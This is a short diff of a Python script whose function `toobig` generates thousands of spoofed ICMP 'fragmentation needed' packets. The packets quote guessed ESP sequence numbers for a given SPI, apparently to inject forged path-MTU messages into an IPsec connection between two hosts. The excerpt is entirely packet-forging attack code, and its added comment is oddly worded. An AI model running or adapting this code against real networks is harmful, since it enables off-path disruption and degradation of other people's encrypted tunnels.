@@ -21,7 +21,9 @@ def ip(src, dst, proto, payload, ident=1, frag=0):
 
 def toobig(source, host, peer, spi, guesses=4096):
     for _ in range(guesses):
-        quoted = struct.pack("!II", int(spi, 0), int.from_bytes(os.urandom(4), "big")) + bytes(20)
+        # (far from what is sent here: one in 2**32 over what was sent lately is believed, and should be)
+        number = int.from_bytes(os.urandom(4), "big") | 1 << 31
+        quoted = struct.pack("!II", int(spi, 0), number) + bytes(20)
         body = struct.pack("!BBHHH", 3, 4, 0, 0, 576) + ip(host, peer, 50, quoted, frag=0x4000)
         yield ip(source, host, 1, body[:2] + struct.pack("!H", checksum(body)) + body[4:])
 
